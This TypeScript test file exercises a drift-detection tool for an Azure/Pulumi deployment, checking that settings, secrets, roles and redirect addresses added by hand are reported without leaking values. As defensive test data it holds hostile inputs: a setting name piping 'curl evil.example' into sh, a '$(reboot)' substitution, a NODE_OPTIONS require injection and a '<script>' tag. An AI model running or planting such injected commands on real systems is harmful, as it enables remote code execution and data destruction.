/**
 * How drift is reported, and the looks beyond a refresh. The engine's refresh itself is tested on a whole deployment
 * (test/engine).
 */
import { spawnSync } from "node:child_process";
import type { EngineEvent, StepEventMetadata } from "@pulumi/pulumi/automation/events.js";
import { expect, test } from "vitest";
import { drift, exitCode, type Drift } from "../../../scripts/drift/drift.ts";
import { list } from "../../../scripts/drift/list.ts";
import { page } from "../../../scripts/drift/page.tsx";
import type { Outcome } from "../../../scripts/engine/outcome.ts";
import { Unanswered, type Ask } from "../../../scripts/preflight/finding.ts";

const [RUNS, OLDER] = ["a".repeat(64), "b".repeat(64)];
const GROUP = "/subscriptions/s/resourceGroups/rg-lamna-test";
const STORE = GROUP + "/providers/Microsoft.DocumentDB/databaseAccounts/cosmos";
const SITE = GROUP + "/providers/Microsoft.Web/sites/app";
const VAULT = GROUP + "/providers/Microsoft.KeyVault/vaults/kv";
const ACCOUNT = GROUP + "/providers/Microsoft.Storage/storageAccounts/st";
const SETTINGS = SITE + "/config/appsettings/list?api-version=2024-04-01";
const STRINGS = SITE + "/config/connectionstrings/list?api-version=2024-04-01";
const LIFECYCLE = ACCOUNT + "/managementPolicies/default?api-version=2023-05-01";
const urn = (type: string, name: string) => `urn:pulumi:lamna-test::teams-ehr-connector::${type}::${name}`;
const resource = (type: string, name: string, id: string, inputs = {}) => ({
  urn: urn(type, name),
  type,
  id,
  inputs,
});
const STATE = {
  deployment: {
    resources: [
      { urn: urn("pulumi:pulumi:Stack", "stack"), type: "pulumi:pulumi:Stack" },
      resource("azuread:index/application:Application", "connector", "/applications/a", {
        web: { redirectUris: ["https://visits.lamna.example/back"] },
      }),
      resource(
        "azuread:index/applicationFederatedIdentityCredential:ApplicationFederatedIdentityCredential",
        "identity",
        "f",
        { displayName: "connector" },
      ),
      resource("azuread:index/servicePrincipal:ServicePrincipal", "service", "/servicePrincipals/s"),
      resource("azuread:index/servicePrincipal:ServicePrincipal", "graph", "/servicePrincipals/g", {
        useExisting: true,
      }),
      resource("azure-native:resources:ResourceGroup", "group", GROUP),
      resource("azure-native:cosmosdb:DatabaseAccount", "store", STORE),
      resource("azure-native:web:WebApp", "app", SITE),
      resource("azure-native:web:WebAppApplicationSettings", "settings", SITE + "/config/appsettings", {
        properties: {
          NODE_ENV: "production",
          PACKAGE_DIGEST: RUNS,
          KEPT: { "4dabf18193072939515e22adb298388d": "encrypted" },
        },
      }),
      ...[RUNS, OLDER].map((digest) =>
        resource("ehr:index:Package", "package-" + digest.slice(0, 12), digest, {
          ...{ blobEndpoint: "https://st.blob.core.windows.net", container: "packages", digest },
        }),
      ),
      resource("azure-native:keyvault:Vault", "vault", VAULT),
      resource("azure-native:storage:StorageAccount", "storage", ACCOUNT),
      resource("azure-native:authorization:RoleAssignment", "own", GROUP + "/ROLES/own"),
    ],
  },
};
const assignment = (id: string, scope: string) => ({ id, properties: { scope, principalId: "somebody" } });
const NOWHERE = { spa: { redirectUris: [] }, publicClient: { redirectUris: [] } };
const CLEAN: Readonly<Record<string, unknown>> = {
  "/v1.0/applications/a?$select=passwordCredentials,keyCredentials,web,spa,publicClient": {
    passwordCredentials: [],
    keyCredentials: [],
    web: { redirectUris: ["https://visits.lamna.example/back"] },
    ...NOWHERE,
  },
  "/v1.0/applications/a/owners?$select=id": { value: [] },
  "/v1.0/servicePrincipals/s?$select=passwordCredentials,keyCredentials": {
    passwordCredentials: [],
    keyCredentials: [],
  },
  "/v1.0/servicePrincipals/s/owners?$select=id": { value: [] },
  "/v1.0/applications/a/federatedIdentityCredentials": { value: [{ name: "connector" }] },
  [GROUP + "/providers/Microsoft.Authorization/roleAssignments?api-version=2022-04-01"]: {
    value: [assignment(GROUP + "/roles/own", GROUP), assignment("/above", "/subscriptions/s")],
  },
  [STORE + "/sqlRoleAssignments?api-version=2024-11-15"]: { value: [] },
  [SETTINGS]: { properties: { NODE_ENV: "production", PACKAGE_DIGEST: RUNS, KEPT: "in plain" } },
  [STRINGS]: { properties: {} },
  [VAULT + "?api-version=2023-07-01"]: { properties: { enableRbacAuthorization: true } },
  [LIFECYCLE]: null,
  [ACCOUNT + "/objectReplicationPolicies?api-version=2023-05-01"]: { value: [] },
};

const outcome = (more: Partial<Outcome>): Outcome => ({
  code: 0,
  stdout: "",
  stderr: "",
  events: [],
  ...more,
});

function looked(
  answers: Readonly<Record<string, unknown>> = {},
  steps: readonly Partial<StepEventMetadata>[] = [],
  bytes: Readonly<Record<string, string>> = { [RUNS]: RUNS },
): Promise<Drift> {
  const ask: Ask = (path) => {
    const answer = { ...CLEAN, ...answers }[path];
    if (answer === null) return Promise.reject(new Unanswered("the answer was 404", 404));
    return answer === undefined
      ? Promise.reject(new Unanswered("the answer was 403", 403))
      : Promise.resolve(answer);
  };
  const events = steps.map((metadata): EngineEvent => ({
    sequence: 0,
    timestamp: 0,
    resOutputsEvent: { metadata: metadata as StepEventMetadata },
  }));
  const own = {
    refreshed: () => Promise.resolve(outcome({ events })),
    state: () => Promise.resolve(outcome({ stdout: JSON.stringify(STATE) })),
  };
  // Azure gives only these lists by POST.
  const isListing = (path: string) => path.includes("/list?");
  const refuse = () => Promise.reject(new Unanswered("the answer was 405", 405));
  const read: Ask = (path) => (isListing(path) ? refuse() : ask(path));
  const listing: Ask = (path) => (isListing(path) ? ask(path) : refuse());
  const stored = (_at: object, digest: string) => Promise.resolve(bytes[digest]);
  return drift({ stack: "lamna-test", own, azure: read, graph: ask, listing, stored });
}

test("nothing has drifted where everything is as the state says; roles from above the group are not its own", async () => {
  const found = await looked();
  expect(found).toEqual({ stack: "lamna-test", differences: [], unknown: [] });
  expect([list(found), exitCode(found)]).toEqual(["lamna-test has not drifted. Nothing was changed.", 0]);
});

test.each<[what: string, path: string, answer: unknown, told: string]>([
  [
    "a secret",
    "/v1.0/applications/a?$select=passwordCredentials,keyCredentials,web,spa,publicClient",
    { passwordCredentials: [{ keyId: "k1" }], keyCredentials: [], web: { redirectUris: [] }, ...NOWHERE },
    "k1",
  ],
  [
    "a redirect address",
    "/v1.0/applications/a?$select=passwordCredentials,keyCredentials,web,spa,publicClient",
    {
      passwordCredentials: [],
      keyCredentials: [],
      web: { redirectUris: ["https://evil.example"] },
      ...NOWHERE,
    },
    "https://evil.example",
  ],
  ...["spa", "publicClient"].map((kind): [string, string, unknown, string] => [
    "a redirect address of the kind " + kind,
    "/v1.0/applications/a?$select=passwordCredentials,keyCredentials,web,spa,publicClient",
    {
      passwordCredentials: [],
      keyCredentials: [],
      web: { redirectUris: [] },
      ...NOWHERE,
      [kind]: { redirectUris: ["https://evil.example"] },
    },
    "https://evil.example",
  ]),
  [
    "a secret of the service principal",
    "/v1.0/servicePrincipals/s?$select=passwordCredentials,keyCredentials",
    { passwordCredentials: [], keyCredentials: [{ keyId: "k2" }] },
    "k2",
  ],
  [
    "an owner",
    "/v1.0/applications/a/owners?$select=id",
    { value: [{ id: "somebody" }] },
    "the owner somebody",
  ],
  [
    "an owner of the service principal",
    "/v1.0/servicePrincipals/s/owners?$select=id",
    { value: [{ id: "somebody" }] },
    "the owner somebody",
  ],
  [
    "a federated credential",
    "/v1.0/applications/a/federatedIdentityCredentials",
    { value: [{ name: "connector" }, { name: "another" }] },
    "another",
  ],
  [
    "a role in the group",
    GROUP + "/providers/Microsoft.Authorization/roleAssignments?api-version=2022-04-01",
    { value: [assignment(GROUP + "/roles/strange", GROUP + "/providers/x")] },
    "a role of somebody",
  ],
  [
    "a role in the store's data",
    STORE + "/sqlRoleAssignments?api-version=2024-11-15",
    { value: [assignment(STORE + "/roles/strange", STORE)] },
    "a role of somebody",
  ],
  [
    "a setting",
    SETTINGS,
    {
      properties: {
        ...{ NODE_ENV: "production", PACKAGE_DIGEST: RUNS, KEPT: "in plain" },
        NODE_OPTIONS: "--require /home/x.js",
      },
    },
    "properties.NODE_OPTIONS",
  ],
  [
    "a connection string",
    STRINGS,
    { properties: { Reports: { value: "Server=…", type: "Custom" } } },
    "the connection string Reports",
  ],
  [
    "an access policy of the vault",
    VAULT + "?api-version=2023-07-01",
    { properties: { accessPolicies: [{ objectId: "somebody", permissions: {} }] } },
    "an access policy of somebody",
  ],
  [
    "a lifecycle rule of the storage",
    LIFECYCLE,
    { properties: { policy: { rules: [{ name: "tidy" }] } } },
    "the lifecycle rule tidy",
  ],
  [
    "a replication of the storage",
    ACCOUNT + "/objectReplicationPolicies?api-version=2023-05-01",
    { value: [{ name: "copy" }] },
    "the replication policy copy",
  ],
])("%s that was added by hand is named, with who takes it away", async (_what, path, answer, told) => {
  const found = await looked({ [path]: answer });
  expect(found.differences).toEqual([
    expect.objectContaining({ what: "added", names: [told], next: expect.stringMatching(/:/u) as string }),
  ]);
  expect(list(found)).toContain("added by hand: " + told);
  expect(exitCode(found)).toBe(1);
});

test("what a refresh would take over is named with its properties and without a value", async () => {
  const type = "azure-native:web:WebAppApplicationSettings";
  const found = await looked({}, [
    { op: "same", type, urn: urn(type, "other") },
    { op: "refresh", type, urn: urn(type, "other") },
    {
      op: "update",
      type,
      urn: urn(type, "settings"),
      detailedDiff: { "properties.CONNECTOR_VISITS": { diffKind: "update", inputDiff: false } } as never,
      old: { inputs: { value: "secret" } } as never,
    },
    { op: "delete", type: "azure-native:authorization:ManagementLockByScope", urn: urn("x", "keep") },
  ]);
  expect(found.differences.map(({ resource, what, names }) => [resource, what, names])).toEqual([
    ["settings (web:WebAppApplicationSettings)", "changed", ["properties.CONNECTOR_VISITS"]],
    ["keep (authorization:ManagementLockByScope)", "gone", []],
  ]);
  expect(JSON.stringify(found) + page(found)).not.toContain("secret");
  expect(list(found)).toContain("lamna-test has drifted: 2 differences. Nothing was changed.");
});

test("a setting that was changed or taken away is named without its value, and once, if a refresh sees it as well", async () => {
  const changed = { properties: { NODE_ENV: "development", PACKAGE_DIGEST: RUNS } };
  const { differences } = await looked({ [SETTINGS]: changed });
  expect(differences.map(({ resource, what, names }) => [resource, what, names])).toEqual([
    ["settings (web:WebAppApplicationSettings)", "gone", ["properties.KEPT"]],
    ["settings (web:WebAppApplicationSettings)", "changed", ["properties.NODE_ENV"]],
  ]);
  expect(JSON.stringify(differences)).not.toContain("development");
  const type = "azure-native:web:WebAppApplicationSettings";
  const detailedDiff = Object.fromEntries(
    ["KEPT", "NODE_ENV"].map((name) => ["properties." + name, { diffKind: "update", inputDiff: false }]),
  ) as never;
  const both = await looked({ [SETTINGS]: changed }, [
    { op: "update", type, urn: urn(type, "settings"), detailedDiff },
  ]);
  expect(both.differences.map(({ what, names }) => [what, names])).toEqual([
    ["changed", ["properties.KEPT", "properties.NODE_ENV"]],
  ]);
});

test("a name that somebody has chosen runs nothing in the shell that its words are pasted into, and hides no line", async () => {
  const names = ["A; curl evil.example | sh", "B'$(reboot)", "C\u001b[2K\rD\nlamna-test has not drifted."];
  const { properties } = CLEAN[SETTINGS] as { properties: object };
  const added = Object.fromEntries(names.map((name) => [name, "x"]));
  const found = await looked({ [SETTINGS]: { properties: { ...properties, ...added } } });
  const [, command = ""] = /(az webapp .*)/su.exec(found.differences[0]?.next ?? "") ?? [];
  const child = spawnSync("sh", ["-c", `az() { printf '%s\\0' "$@"; }; ${command}`], { encoding: "utf8" });
  expect(child.stdout.split("\0").slice(-1 - names.length, -1)).toEqual(names);
  expect(list(found).split("\n")).toHaveLength(4);
  expect(list(found).replaceAll("\n", "")).not.toMatch(/\p{Cc}/u);
});

test.each<[what: string, bytes: Readonly<Record<string, string>>, found: "changed" | "gone"]>([
  ["other bytes", { [RUNS]: "c".repeat(64) }, "changed"],
  ["none", {}, "gone"],
])(
  "where %s are stored under the name of the package that runs, it is told with who puts it back",
  async (...of) => {
    const [, bytes, what] = of;
    const found = await looked({}, [], bytes);
    expect(found.differences).toEqual([
      {
        resource: "package-aaaaaaaaaaaa (ehr:index:Package)",
        what,
        names: [`the stored bytes of ${RUNS}.zip`],
        next: expect.stringContaining(
          `az storage blob delete --auth-mode login --blob-url https://st.blob.core.windows.net/packages/${RUNS}.zip`,
        ) as string,
      },
    ]);
    expect(exitCode(found)).toBe(1);
  },
);

test("what the settings name by now is looked at, and only in the container of packages", async () => {
  const properties = { NODE_ENV: "production", KEPT: "in plain" };
  const swapped = { [SETTINGS]: { properties: { ...properties, PACKAGE_DIGEST: "d".repeat(64) } } };
  const { differences } = await looked(swapped, [], { [RUNS]: "c".repeat(64) });
  expect(differences.map(({ what, names }) => [what, names])).toEqual([
    ["changed", ["properties.PACKAGE_DIGEST"]],
    ["gone", [`the stored bytes of ${"d".repeat(64)}.zip`]],
  ]);
  const none = { [SETTINGS]: { properties: { ...properties, PACKAGE_DIGEST: "https://evil.example/x" } } };
  expect((await looked(none)).differences).toHaveLength(1);
});

test("what nobody may look at is said, and is no success", async () => {
  const path = "/v1.0/applications/a/federatedIdentityCredentials";
  const found = await looked({ [path]: undefined });
  expect(found.unknown).toEqual([
    { about: "federated credentials of the app registration", why: "the answer was 403" },
  ]);
  expect(exitCode(found)).toBe(2);
  expect(list(found)).toContain("not everything could be looked at");
  const otherForm = await looked({ [path]: { value: 1 } });
  expect(otherForm.unknown[0]?.why).toContain("another form");
});

test("an engine that cannot look says what to do", async () => {
  const refused = () => Promise.resolve(outcome({ code: 255, stderr: "error: no stack named lamna-test" }));
  const ask: Ask = () => Promise.resolve({});
  const looking = drift({
    stack: "lamna-test",
    own: { refreshed: refused, state: refused },
    azure: ask,
    graph: ask,
    listing: ask,
    stored: () => Promise.resolve(undefined),
  });
  await expect(looking).rejects.toThrow(/pulumi login[^]*no stack named lamna-test/u);
});

test("the page has the same, escaped", async () => {
  const path = "/v1.0/applications/a/federatedIdentityCredentials";
  const html = page(await looked({ [path]: { value: [{ name: "<script>" }] } }));
  expect(html).toMatch(/^<!doctype html>/u);
  expect(html).toContain("&lt;script");
  expect(html).not.toContain("<script>");
  expect(html).toContain("default-src 'none'; style-src 'sha256-");
  expect(html).toContain("connector (azuread:Application)");
});

test("what is on a later page is found, too", async () => {
  const path = "/v1.0/applications/a/federatedIdentityCredentials";
  const next = path + "?$skiptoken=2";
  const found = await looked({
    [path]: { value: [{ name: "connector" }], "@odata.nextLink": "https://graph.microsoft.com" + next },
    [next]: { value: [{ name: "another" }] },
  });
  expect(found.differences.map(({ names }) => names)).toEqual([["another"]]);
  // Reading a list that never ends is given up.
  const endless = await looked({ [path]: { value: [], nextLink: "https://graph.microsoft.com" + path } });
  expect(endless.unknown.map(({ why }) => why)).toEqual(["the list has more pages than are looked at"]);
});
